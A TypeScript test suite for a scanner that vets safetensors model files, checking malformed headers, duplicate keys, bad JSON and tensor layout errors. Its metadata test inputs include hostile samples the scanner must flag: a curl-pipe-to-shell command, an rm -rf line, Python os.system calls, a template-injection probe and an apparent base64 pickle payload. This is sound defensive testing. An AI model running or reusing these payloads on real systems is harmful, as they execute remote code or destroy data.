import { expect } from 'chai';
import { rulesOf, scanBytes } from './scan-bytes.ts';

const TENSOR = '"a":{"dtype":"F32","shape":[2],"data_offsets":[0,8]}';

function safetensors(header: string | Buffer, data = 8, length?: bigint): Buffer {
  const json = Buffer.from(header);
  const prefix = Buffer.alloc(8);
  prefix.writeBigUInt64LE(length ?? BigInt(json.length));
  return Buffer.concat([prefix, json, Buffer.alloc(data)]);
}

describe('safetensors', () => {
  it('passes honest files', () => {
    for (const bytes of [
      safetensors(`{${TENSOR}}`),
      safetensors(`{${TENSOR}}      `),
      safetensors(`{"__metadata__":{"format":"pt"},${TENSOR}}`),
      safetensors(`{"b":{"dtype":"U8","shape":[],"data_offsets":[8,9]},${TENSOR}}`, 9),
      safetensors('{"e":{"dtype":"BF16","shape":[0,4],"data_offsets":[0,0]}}', 0),
      safetensors('{"__proto__":{"dtype":"I8","shape":[1],"data_offsets":[0,1]}}', 1),
    ])
      expect(scanBytes('m.safetensors', bytes).findings).to.deep.equal([]);
  });

  const metadata: [string, string[]][] = [
    ['https://github.com/Stability-AI/generative-models', []],
    ['bitsandbytes.optim.adamw.AdamW8bit(weight_decay=0.1)', []],
    ['evaluated (2,000 steps); executed on 4 GPUs', []],
    ['import os; os.system(1)', ['safetensors-metadata-code']],
    ["import os\nos.popen('id')", ['safetensors-metadata-code']],
    ["{{ ''.__class__.__mro__ }}", ['safetensors-metadata-code']],
    ['gASVFwAAAAAAAACMBXBvc2l4lIwGc3lzdGVtlJOUjAJpZJSFlFKULg==', ['safetensors-metadata-code']],
    ['the important things: __init__ is not changed; gAmes', []],
    ['rm -rf /tmp/x', ['safetensors-metadata-code']],
    ['curl -s https://example.com/a.sh | sh', ['safetensors-metadata-code']],
    ['<script>fetch(1)</script>', ['safetensors-metadata-code']],
  ];
  for (const [note, rules] of metadata) {
    it(`the note ${note} → ${rules.join() || 'pass'}`, () => {
      expect(
        rulesOf(
          scanBytes(
            'm.safetensors',
            safetensors(`{"__metadata__":{"note":${JSON.stringify(note)}},${TENSOR}}`),
          ),
        ),
      ).to.deep.equal(rules);
    });
  }

  it('is not led astray by a header length that looks like another format', () => {
    for (const length of [0x0480, 0x0178, 0x5a4d, 0x8b1f]) {
      const header = `{${TENSOR}}`.padEnd(length, ' ');
      expect(
        scanBytes('m.safetensors', safetensors(header)).findings,
        String(length),
      ).to.deep.equal([]);
    }
  });

  const attacks: [string, string, Buffer][] = [
    ['header longer than the file', 'safetensors-header', safetensors(`{${TENSOR}}`, 8, 9999n)],
    ['header of 2^63', 'safetensors-header', safetensors(`{${TENSOR}}`, 8, 2n ** 63n)],
    ['header of 200 MB', 'safetensors-header', safetensors(`{${TENSOR}}`, 8, 200_000_000n)],
    ['blank before {', 'safetensors-header', safetensors(` {${TENSOR}}`)],
    ['a key twice', 'safetensors-duplicate-key', safetensors(`{${TENSOR},${TENSOR}}`)],
    [
      'a key twice, once escaped',
      'safetensors-duplicate-key',
      safetensors(`{${TENSOR},${TENSOR.replace('"a"', '"\\u0061"')}}`),
    ],
    [
      'a key of an entry twice',
      'safetensors-duplicate-key',
      safetensors('{"a":{"dtype":"F32","dtype":"F64","shape":[2],"data_offsets":[0,8]}}'),
    ],
    ['comment in JSON', 'safetensors-json', safetensors(`{/* */${TENSOR}}`)],
    ['comma at the end', 'safetensors-json', safetensors(`{${TENSOR},}`)],
    ['something behind the JSON', 'safetensors-json', safetensors(`{${TENSOR}}{}`)],
    [
      'NaN',
      'safetensors-json',
      safetensors(TENSOR.replace('[2]', '[NaN]').replace(/^/, '{') + '}'),
    ],
    [
      'not UTF-8',
      'safetensors-json',
      safetensors(
        Buffer.concat([
          Buffer.from('{"'),
          Buffer.from([0xff]),
          Buffer.from(TENSOR.slice(2)),
          Buffer.from('}'),
        ]),
      ),
    ],
    [
      'half a surrogate pair',
      'safetensors-json',
      safetensors(`{${TENSOR.replace('"a"', '"\\ud800"')}}`),
    ],
    ['deep nesting', 'limit-exceeded', safetensors(`{"a":${'['.repeat(1000)}${']'.repeat(1000)}}`)],
    [
      'metadata that is no text',
      'safetensors-metadata',
      safetensors(`{"__metadata__":{"a":1},${TENSOR}}`),
    ],
    ['unknown dtype', 'safetensors-tensor', safetensors(`{${TENSOR.replace('F32', 'F31')}}`)],
    [
      'shape with a fraction',
      'safetensors-tensor',
      safetensors(`{${TENSOR.replace('[2]', '[2.0]')}}`),
    ],
    [
      'shape with an exponent',
      'safetensors-tensor',
      safetensors(`{${TENSOR.replace('[2]', '[2e0]')}}`),
    ],
    ['negative shape', 'safetensors-tensor', safetensors(`{${TENSOR.replace('[2]', '[-2]')}}`)],
    [
      'shape that overflows',
      'safetensors-tensor',
      safetensors(`{${TENSOR.replace('[2]', '[4294967296,4294967296,2]')}}`),
    ],
    [
      'numbers beyond 2^53',
      'safetensors-tensor',
      safetensors(`{${TENSOR.replace('[0,8]', '[9007199254740993,9007199254741000]')}}`),
    ],
    [
      'range that is not the shape',
      'safetensors-tensor',
      safetensors(`{${TENSOR.replace('[0,8]', '[0,4]')}}`),
    ],
    [
      'unknown key',
      'safetensors-tensor',
      safetensors(`{${TENSOR.replace('"dtype"', '"x":1,"dtype"')}}`),
    ],
    ['bytes behind the last tensor', 'safetensors-layout', safetensors(`{${TENSOR}}`, 9)],
    ['cut data', 'safetensors-layout', safetensors(`{${TENSOR}}`, 7)],
    [
      'a gap',
      'safetensors-layout',
      safetensors(`{${TENSOR},"b":{"dtype":"U8","shape":[1],"data_offsets":[9,10]}}`, 10),
    ],
    [
      'an overlap',
      'safetensors-layout',
      safetensors(`{${TENSOR},"b":{"dtype":"U8","shape":[1],"data_offsets":[7,8]}}`, 8),
    ],
    [
      'a first tensor that does not begin at 0',
      'safetensors-layout',
      safetensors(`{${TENSOR.replace('[0,8]', '[1,9]')}}`, 9),
    ],
  ];
  for (const [what, rule, bytes] of attacks) {
    it(`${what} → ${rule}`, () => {
      const result = scanBytes('m.safetensors', bytes);
      expect(rulesOf(result), JSON.stringify(result.findings)).to.deep.equal([rule]);
      expect(result.verdict).to.equal('block');
    });
  }
});
